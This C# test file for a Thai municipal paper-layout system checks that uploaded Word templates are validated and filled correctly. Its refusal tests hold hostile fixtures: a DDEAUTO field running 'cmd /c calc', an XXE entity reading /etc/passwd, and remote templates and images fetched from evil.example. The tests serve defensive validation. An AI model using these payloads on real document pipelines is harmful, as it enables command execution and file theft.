using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Sujarit.Documents.Contracts;
using Sujarit.Documents.Papers;
using Sujarit.Documents.Papers.Layouts;
using Sujarit.Platform.Access;

namespace Sujarit.Modules.Documents.Papers;

/// <summary>Own layouts: what is refused, by which words, and that a filled one says all that the built-in form says.</summary>
public class LayoutTests
{
    private static readonly XNamespace w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static readonly AgencyCard agency = new(Guid.NewGuid(), "thansujarit", "องค์การบริหารส่วนตำบลธารสุจริต", null, "เมืองทอง", "สยามบุรี", false) { Address = "หมู่ที่ 4 ตำบลธารสุจริต\nอำเภอเมืองทอง จังหวัดสยามบุรี 99000", Telephone = "0 2000 0000" };

    public static TheoryData<string> Kinds => [.. Enum.GetNames<PaperKind>()];

    [Theory]
    [MemberData(nameof(Kinds))]
    public void A_starting_layout_passes_and_says_filled_what_the_built_in_form_says(string name)
    {
        var kind = Enum.Parse<PaperKind>(name);
        var start = LayoutStart.Of(kind, agency);
        Assert.Empty(LayoutCheck.Faults(start, kind, agency));
        Assert.Empty(Invalid(start));

        var filled = LayoutFilling.Fill(start, SampleOfKind.Content(kind, agency));

        Assert.Empty(Invalid(filled));
        Assert.DoesNotContain("w:sdt", Xml(filled), StringComparison.Ordinal);
        // What counts as a list in the built-in form is written out in a layout, which has no lists.
        Assert.Equal(Words(SampleOfKind.Word(kind, agency)), Words(filled).Replace("๑. รายการ", "รายการ", StringComparison.Ordinal).Replace("๒. รายการ", "รายการ", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Kinds))]
    public void Every_field_that_is_missing_is_named_and_nothing_else(string name)
    {
        var kind = Enum.Parse<PaperKind>(name);
        var start = LayoutStart.Of(kind, agency);
        foreach (var field in LayoutFields.Of(kind).Where(field => field.IsRequired))
        {
            var without = Changed(start, text => text.Descendants(w + "sdt").Where(control => Tag(control) == field.Tag).Remove());

            Assert.Equal($"ขาดช่อง “{field.Name}” โปรดเพิ่มกล่องเนื้อหาที่มีแท็ก {field.Tag}", Assert.Single(LayoutCheck.Faults(without, kind, agency)));
        }
    }

    [Fact]
    public void A_file_whose_controls_lost_every_tag_is_told_why_instead_of_each_field() =>
        Assert.Contains("ตัดแท็กทิ้งเมื่อบันทึก", Assert.Single(LayoutCheck.Faults(Changed(LayoutStart.Of(PaperKind.Order, agency), text => text.Descendants(w + "tag").Remove()), PaperKind.Order, agency)), StringComparison.Ordinal);

    [Fact]
    public void An_unknown_tag_is_named_with_its_place_in_the_page_in_headers_in_tables_and_in_boxes()
    {
        var page = Page(Usual, Control("salary", Run("x")));
        var table = Page(Usual, "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w=\"5000\"/></w:tblGrid><w:tr>" + Control("bonus", "<w:tc><w:tcPr/><w:p/></w:tc>") + "</w:tr></w:tbl>");
        var box = Page(Usual, $"<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textbox><w:txbxContent>{Control("motto", "<w:p/>")}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>");
        var header = WithHeader(Page(Usual), $"<w:p>{Control("slogan", Run("x"))}</w:p>");

        Assert.Equal("ไม่รู้จักแท็ก “salary” (ในเนื้อหา) โปรดใช้แท็กตามตารางของคำสั่ง หรือลบกล่องนั้น", Assert.Single(Faults(page)));
        Assert.Contains("“bonus” (ในเนื้อหา)", Assert.Single(Faults(table)), StringComparison.Ordinal);
        Assert.Contains("“motto” (ในเนื้อหา)", Assert.Single(Faults(box)), StringComparison.Ordinal);
        Assert.Contains("“slogan” (ในหัวกระดาษ)", Assert.Single(Faults(header)), StringComparison.Ordinal);
    }

    [Fact]
    public void A_field_in_the_wrong_place_is_named()
    {
        Assert.Contains("ช่อง “ข้อความ” (แท็ก body) อยู่กลางบรรทัดกับข้อความอื่น", Assert.Single(Faults(Page(Lines, Block("signature"), $"<w:p>{Run("ด้วย")}{Control("body", Run("x"))}</w:p>"))), StringComparison.Ordinal);
        Assert.Contains("ครอบทั้งแถวของตาราง", Assert.Single(Faults(Page(Usual, "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid>" + Control("office", "<w:tr><w:tc><w:p/></w:tc></w:tr>") + "</w:tbl>"))), StringComparison.Ordinal);
        Assert.Contains("(แท็ก cancelled) อยู่ในหัวกระดาษ", Assert.Single(Faults(WithHeader(Page(Usual), Block("cancelled")))), StringComparison.Ordinal);
        Assert.Contains("อยู่ในกล่องข้อความ", Assert.Single(Faults(Page(Usual, $"<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textbox><w:txbxContent>{Block("body")}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"))), StringComparison.Ordinal);
        Assert.Contains("ช่อง “วันที่” (แท็ก date) ซ้อนอยู่ในช่อง “เรื่อง”", Assert.Single(Faults(Page(Usual, $"<w:p>{Control("subject", Control("date", Run("x")))}</w:p>"))), StringComparison.Ordinal);
        Assert.Empty(Faults(Page(Lines, Block("signature"), $"<w:p>{Control("body", Run("x"))}</w:p>")));
    }

    [Theory]
    [InlineData("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE \"http://evil.example/x.png\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "INCLUDEPICTURE")]
    [InlineData("<w:p><w:fldSimple w:instr=\" DDEAUTO cmd /c calc\"/></w:p>", "DDEAUTO")]
    [InlineData("<w:p><w:r><w:instrText> DATE </w:instrText></w:r></w:p>", "DATE")]
    [InlineData("<w:p><w:ins w:id=\"1\" w:author=\"ก\"><w:r><w:t>x</w:t></w:r></w:ins></w:p>", "การติดตามการแก้ไข")]
    [InlineData("<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata src=\"http://evil.example/x.png\"/></v:shape></w:pict></w:r></w:p>", "ภาพที่เก็บอยู่นอกไฟล์")]
    public void What_runs_or_fetches_within_the_text_is_refused_by_name(string content, string named) =>
        Assert.Contains(named, Assert.Single(Faults(Page(Usual, content))), StringComparison.Ordinal);

    [Theory]
    [InlineData("attachedTemplate", "http://evil.example/a.dotm", true, "แม่แบบที่ผูกไว้")]
    [InlineData("image", "http://evil.example/a.png", true, "ภาพที่เก็บอยู่นอกไฟล์")]
    [InlineData("hyperlink", "https://evil.example/", true, "ลิงก์ไปยังเว็บ")]
    [InlineData("frame", "file:///etc/passwd", true, "การอ้างถึงนอกไฟล์ (frame)")]
    [InlineData("vbaProject", "vbaProject.bin", false, "มาโคร")]
    [InlineData("oleObject", "embeddings/a.bin", false, "OLE")]
    [InlineData("aFChunk", "chunk.html", false, "altChunk")]
    [InlineData("font", "fonts/a.odttf", false, "แบบอักษรที่ฝังไว้")]
    public void What_a_file_points_to_elsewhere_or_runs_is_refused_by_name(string kind, string target, bool isOutside, string named)
    {
        var link = $"<Relationship Id=\"x1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\"{(isOutside ? " TargetMode=\"External\"" : "")}/>";

        Assert.Contains(named, Assert.Single(Faults(Part(Page(Usual), "word/_rels/document.xml.rels", rels => rels.Replace("</Relationships>", link + "</Relationships>", StringComparison.Ordinal)))), StringComparison.Ordinal);
    }

    [Fact]
    public void A_hostile_file_is_refused_and_takes_nothing_down()
    {
        var deep = string.Concat(Enumerable.Repeat("<w:smartTag>", 30_000)) + string.Concat(Enumerable.Repeat("</w:smartTag>", 30_000));
        var usual = Page(Usual);

        Assert.Contains("ซับซ้อนผิดปกติ", Assert.Single(Faults(Page(Usual, $"<w:p>{deep}</w:p>"))), StringComparison.Ordinal);
        Assert.Contains("DTD", Assert.Single(Faults(Part(usual, "word/document.xml", xml => "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>" + xml[(xml.IndexOf("?>", StringComparison.Ordinal) + 2)..]))), StringComparison.Ordinal);
        Assert.Contains("บีบอัดแน่นผิดปกติ", Assert.Single(Faults(Part(usual, "word/document.xml", xml => xml.Replace("</w:body>", string.Concat(Enumerable.Repeat("<w:p/>" + new string(' ', 100_000), 300)) + "</w:body>", StringComparison.Ordinal)))), StringComparison.Ordinal);
        Assert.Contains("ไม่ใช่ Word", Assert.Single(Faults(Encoding.UTF8.GetBytes("%PDF-1.7"))), StringComparison.Ordinal);
        Assert.Contains("Strict", Assert.Single(Faults(Part(usual, "word/document.xml", xml => xml.Replace(w.NamespaceName, "http://purl.oclc.org/ooxml/wordprocessingml/main", StringComparison.Ordinal)))), StringComparison.Ordinal);
        Assert.NotEmpty(Faults(Twice(usual)));
        Assert.All(Enumerable.Range(0, 40), at => Assert.NotEmpty(Faults(usual[..(usual.Length * at / 40)])));
    }

    [Fact]
    public void What_a_paper_says_stays_text_and_keeps_the_letters_and_the_shape_that_were_there()
    {
        const string red = "<w:rPr><w:i/><w:color w:val=\"FF0000\"/></w:rPr>";
        var layout = Page(
            Lines.Replace(Control("subject", Run("x")), Control("subject", $"<w:r>{red}<w:t>x</w:t></w:r>"), StringComparison.Ordinal),
            Block("signature"),
            Control("body", $"<w:p><w:pPr><w:spacing w:line=\"400\"/><w:ind w:firstLine=\"900\"/></w:pPr><w:r>{red}<w:t>x</w:t></w:r></w:p>"));
        var content = SampleOfKind.Content(PaperKind.Order, agency) with { Body = "ย่อหน้า <w:p> & ๑\n# หัวข้อ\n1. ข้อ 1" };
        content = content with { Values = new Dictionary<string, string>(content.Values) { [LayoutFields.Subject] = "<script>\nบรรทัดสอง\u0007" } };

        var filled = LayoutFilling.Fill(layout, content);

        Assert.Empty(Invalid(filled));
        var text = XDocument.Parse(Xml(filled));
        var subject = text.Descendants(w + "r").Single(run => run.Value.Contains("<script>", StringComparison.Ordinal));
        Assert.Equal(("FF0000", 1, "<script>บรรทัดสอง"), ((string)subject.Descendants(w + "color").Single().Attribute(w + "val")!, subject.Elements(w + "br").Count(), subject.Value));
        var paragraph = text.Descendants(w + "p").Single(known => known.Value == "ย่อหน้า <w:p> & ๑");
        Assert.Equal(("900", "400"), (Attribute(paragraph, "ind", "firstLine"), Attribute(paragraph, "spacing", "line")));
        Assert.NotEmpty(paragraph.Descendants(w + "i"));
        var heading = text.Descendants(w + "p").Single(known => known.Value == "หัวข้อ");
        Assert.Equal(("0", 1), (Attribute(heading, "ind", "firstLine"), heading.Descendants(w + "bCs").Count()));
        Assert.Contains(text.Descendants(w + "p"), known => known.Value == "๑. ข้อ ๑");
    }

    [Fact]
    public void A_field_may_stand_several_times_in_cells_headers_and_boxes_and_all_are_filled()
    {
        var cell = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w=\"5000\"/></w:tblGrid><w:tr>" + Control("number", "<w:tc><w:tcPr><w:tcW w:w=\"5000\" w:type=\"dxa\"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>") + "</w:tr></w:tbl>";
        var box = $"<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:textbox><w:txbxContent>{Control("number", "<w:p/>")}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>";
        var layout = WithHeader(Page(Usual, cell, box), $"<w:p>{Run("ที่ ")}{Control("number", Run("x"))}</w:p>");
        Assert.Empty(Faults(layout));

        var filled = LayoutFilling.Fill(layout, SampleOfKind.Content(PaperKind.Order, agency));

        Assert.Empty(Invalid(filled));
        Assert.Equal(3, Xml(filled).Split("๑๒/๒๕๔๓").Length - 1);
        Assert.Contains("ที่ ๑๒/๒๕๔๓", Words(filled, "word/header1.xml"), StringComparison.Ordinal);
    }

    [Fact]
    public void A_line_whose_field_has_nothing_goes_with_its_words_and_a_cancelled_paper_is_marked_though_there_is_no_place_for_it()
    {
        var layout = LayoutStart.Of(PaperKind.Letter, agency);
        var content = SampleOfKind.Content(PaperKind.Letter, agency);
        var empty = content with { Values = new Dictionary<string, string>(content.Values) { [LayoutFields.References] = "", [LayoutFields.Enclosures] = "" }, Cancelled = ["ยกเลิก", "โดยนายหนึ่ง เหตุผล พิมพ์ผิด"] };

        Assert.Contains("อ้างถึง", Words(LayoutFilling.Fill(layout, content)), StringComparison.Ordinal);
        var filled = LayoutFilling.Fill(layout, empty);
        Assert.DoesNotContain("อ้างถึง", Words(filled), StringComparison.Ordinal);
        Assert.DoesNotContain("สิ่งที่ส่งมาด้วย", Words(filled), StringComparison.Ordinal);
        Assert.StartsWith("ยกเลิกโดยนายหนึ่ง เหตุผล พิมพ์ผิด", Words(filled), StringComparison.Ordinal);
        var notice = SampleOfKind.Content(PaperKind.Announcement, agency);
        notice = notice with { Values = new Dictionary<string, string>(notice.Values) { [LayoutFields.Number] = "" } };
        Assert.StartsWith("ประกาศองค์การบริหารส่วนตำบลธารสุจริตเรื่อง ซักซ้อม", Words(LayoutFilling.Fill(LayoutStart.Of(PaperKind.Announcement, agency), notice)), StringComparison.Ordinal);
        var bare = LayoutFilling.Fill(Page(Usual), empty with { Kind = PaperKind.Order });
        Assert.StartsWith("ยกเลิกโดยนายหนึ่ง เหตุผล พิมพ์ผิด", Words(bare), StringComparison.Ordinal);
        Assert.Empty(Invalid(bare));
        Assert.Empty(Invalid(filled));
    }

    [Fact]
    public void A_memo_prints_each_opinion_and_the_pictures_of_signatures()
    {
        var content = SampleOfKind.Content(PaperKind.Memo, agency);
        var signed = new Signature("นายสอง", ["ปลัด", "๑๖ กันยายน ๒๕๖๗"]) { Picture = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=") };
        var filled = LayoutFilling.Fill(LayoutStart.Of(PaperKind.Memo, agency), content with { Signatures = [new Signature("นายหนึ่ง", ["นักวิเคราะห์"]) { InWords = "นายหนึ่ง" }, new Opinion("ความเห็นปลัด", signed) { Text = "เห็นชอบ" }] });

        Assert.Empty(Invalid(filled));
        Assert.Contains("นายหนึ่ง(นายหนึ่ง)นักวิเคราะห์ความเห็นปลัดเห็นชอบ(นายสอง)ปลัด๑๖ กันยายน ๒๕๖๗", Words(filled), StringComparison.Ordinal);
        using var package = WordprocessingDocument.Open(new MemoryStream(filled), isEditable: false);
        var ids = package.MainDocumentPart!.ImageParts.Select(package.MainDocumentPart.GetIdOfPart).ToList();
        Assert.All(XDocument.Parse(Xml(filled)).Descendants().Attributes().Where(attribute => attribute.Name.LocalName == "embed"), embed => Assert.Contains(embed.Value, ids));
        Assert.Contains(ids, id => id.StartsWith("signature", StringComparison.Ordinal));
    }

    [Fact]
    public void A_filled_layout_does_not_tell_who_made_it_nor_keep_what_Word_would_write_over()
    {
        var layout = Changed(LayoutStart.Of(PaperKind.Order, agency), text => text.Descendants(w + "sdtPr").First().Add(new XElement(w + "dataBinding", new XAttribute(w + "xpath", "/a"), new XAttribute(w + "storeItemID", "{0}"))));
        using var file = new MemoryStream();
        file.Write(layout);
        using (var package = WordprocessingDocument.Open(file, isEditable: true))
        {
            package.PackageProperties.Creator = "ผู้ออกแบบ";
        }

        var filled = LayoutFilling.Fill(file.ToArray(), SampleOfKind.Content(PaperKind.Order, agency));

        using var read = WordprocessingDocument.Open(new MemoryStream(filled), isEditable: false);
        Assert.True(string.IsNullOrEmpty(read.PackageProperties.Creator));
        Assert.DoesNotContain("dataBinding", Xml(filled), StringComparison.Ordinal);
    }

    // All an order needs but its body and its signature.
    private static string Lines => $"<w:p>{Run("ที่ ")}{Control("office", Run("x"))}</w:p><w:p>{Control("subject", Run("x"))}</w:p><w:p>{Control("date", Run("x"))}</w:p>" + Hidden;

    private static string Hidden => $"<w:p>{Control("number", Run("x"))}</w:p>";

    private static string Usual => $"<w:p>{Control("subject", Run("x"))}</w:p><w:p>{Control("date", Run("x"))}</w:p>{Hidden}{Block("body")}{Block("signature")}";

    private static string Run(string text) => $"<w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r>";

    private static string Control(string tag, string content) => $"<w:sdt><w:sdtPr><w:tag w:val=\"{tag}\"/></w:sdtPr><w:sdtContent>{content}</w:sdtContent></w:sdt>";

    private static string Block(string tag) => Control(tag, $"<w:p>{Run("x")}</w:p>");

    private static IReadOnlyList<string> Faults(byte[] layout) => LayoutCheck.Faults(layout, PaperKind.Order, agency);

    private static byte[] Page(params string[] content) =>
        Part(LayoutStart.Of(PaperKind.Order, agency), "word/document.xml", _ => $"<w:document xmlns:w=\"{w}\"><w:body>{string.Concat(content)}<w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/><w:pgMar w:top=\"1440\" w:right=\"1134\" w:bottom=\"1134\" w:left=\"1701\" w:header=\"708\" w:footer=\"567\" w:gutter=\"0\"/></w:sectPr></w:body></w:document>");

    private static byte[] WithHeader(byte[] layout, string content) => Part(layout, "word/header1.xml", _ => $"<w:hdr xmlns:w=\"{w}\">{content}</w:hdr>");

    private static byte[] Changed(byte[] layout, Action<XDocument> change) =>
        Part(layout, "word/document.xml", xml =>
        {
            var text = XDocument.Parse(xml, LoadOptions.PreserveWhitespace);
            change(text);
            return text.ToString(SaveOptions.DisableFormatting);
        });

    private static byte[] Part(byte[] file, string name, Func<string, string> change)
    {
        using var changed = new MemoryStream();
        changed.Write(file);
        using (var zip = new ZipArchive(changed, ZipArchiveMode.Update, leaveOpen: true))
        {
            var part = zip.GetEntry(name)!;
            string text;
            using (var reader = new StreamReader(part.Open()))
            {
                text = reader.ReadToEnd();
            }

            part.Delete();
            using var writer = new StreamWriter(zip.CreateEntry(name).Open());
            writer.Write(change(text));
        }

        return changed.ToArray();
    }

    private static byte[] Twice(byte[] file)
    {
        using var changed = new MemoryStream();
        changed.Write(file);
        using (var zip = new ZipArchive(changed, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var writer = new StreamWriter(zip.CreateEntry("WORD/document.xml").Open());
            writer.Write("<x/>");
        }

        return changed.ToArray();
    }

    private static string Xml(byte[] file, string name = "word/document.xml")
    {
        using var zip = new ZipArchive(new MemoryStream(file));
        using var reader = new StreamReader(zip.GetEntry(name)!.Open());
        return reader.ReadToEnd();
    }

    private static string Words(byte[] file, string name = "word/document.xml") => string.Concat(XDocument.Parse(Xml(file, name)).Descendants(w + "t").Select(text => text.Value));

    private static string? Tag(XElement control) => (string?)control.Element(w + "sdtPr")?.Element(w + "tag")?.Attribute(w + "val");

    private static string? Attribute(XElement paragraph, string property, string name) => (string?)paragraph.Element(w + "pPr")?.Element(w + property)?.Attribute(w + name);

    private static List<string> Invalid(byte[] file)
    {
        using var package = WordprocessingDocument.Open(new MemoryStream(file), isEditable: false);
        return [.. new OpenXmlValidator(FileFormatVersions.Office2019).Validate(package, TestContext.Current.CancellationToken).Select(fault => $"{fault.Path?.XPath}: {fault.Description}")];
    }
}
